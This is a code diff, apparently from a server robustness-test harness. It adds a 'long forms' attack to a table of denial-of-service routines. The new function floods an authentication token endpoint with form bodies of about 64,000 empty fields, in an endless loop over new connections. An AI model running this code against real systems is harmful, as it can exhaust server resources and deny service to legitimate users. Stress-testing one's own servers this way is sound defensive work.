@@ -85,6 +85,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
 	'fragments without end, with pings between': (target) => all(20, () => endlessFragments(target)),
 	'lines without end': (target) => all(8, () => endlessLine(target)),
 	'bodies that never end, by nobody': (target) => all(132, (i) => unfinishedForm(target, i)),
+	'long forms, by nobody': (target) => all(60, (i) => longForms(target, i)),
 	'bodies that come slowly': (target) => all(200, () => slowBody(target)),
 	'polls of clients that leave': (target) => all(20, (i) => abandonedPolls(target, i * 50)),
 };
@@ -231,6 +232,20 @@ async function unfinishedForm(target: Target, i: number): Promise<void> {
 		await write(socket, head(path, null, [form, 'Content-Length: 65000']));
 		await write(socket, `username=${'x'.repeat(60_000)}`);
 		await once(socket, 'close');
+	}
+}
+
+const MULTIPART_FIELD = '--X\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n';
+
+async function longForms(target: Target, i: number): Promise<void> {
+	const [type, form] =
+		i % 2 === 0
+			? ['application/x-www-form-urlencoded', much('a&', 64_000)]
+			: ['multipart/form-data; boundary=X', `${much(MULTIPART_FIELD, 64_000)}--X--\r\n`];
+	const request = head('/auth/device/token', null, [`Content-Type: ${type}`, `Content-Length: ${form.length}`]) + form;
+	for (;;) {
+		const socket = dial(target);
+		while (await write(socket, request)) await wait(100);
 	}
 }
 
